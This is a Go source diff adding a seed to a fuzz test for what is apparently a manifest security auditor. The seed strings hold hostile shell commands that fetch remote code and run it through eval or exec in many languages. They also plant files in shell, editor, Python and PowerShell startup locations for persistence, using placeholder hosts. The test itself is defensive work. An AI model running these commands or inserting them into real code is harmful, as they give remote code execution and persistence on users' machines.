@@ -339,6 +339,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "curl -o ~/.local/lib/python3/site-packages/a.pth h://x; cp a /usr/lib/python3/dist-packages/usercustomize.py; echo x >> ~/.vimrc; tee ~/_vimrc ~/.config/nvim/init.vim ~/.emacs.d/init.el ~/.lldbinit ~/.screenrc ~/.sqliterc < a; cp a ~/.config/tmux/tmux.conf ~/.ipython/profile_default/startup/a.py ~/Documents/WindowsPowerShell/profile.ps1; cat .pth site-packages/.PTH x.pth"},
 	{"python3", "-c", "exec(urlopen(u).read()); eval(requests.get(x).text); compile(httpx.get(y))"},
 	{"sh", "-c", "node -e 'fetch(u).then(eval); import(\"https://h/a.js\")'; ruby -e 'eval(URI.open(u).read)'; perl -e 'eval get($u); eval $ua->get($u)'; php -r 'eval(file_get_contents($u)); include \"http://h/a\";'; Rscript -e 'source(url(u)); eval(parse(text=readLines(u)))'; julia -e 'include(download(u))'; lua -e 'loadstring(http.request(u))'; awk 'BEGIN{\"wget -qO- h\"|getline l; printf l | \"/bin/bash -s\"}'; deno eval 'eval(await (await fetch(u)).text())'"},
+	{"sh", "-c", "python3 -c 'c = urlopen(u).read(); x == requests.get(y); exec(c); exec(x)'; perl -e 'my $r = $ua->get($u); eval $r'; Rscript -e 'd <- GET(u); eval(parse(text=d))'; julia -e 'f = download(u); include(f)'"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
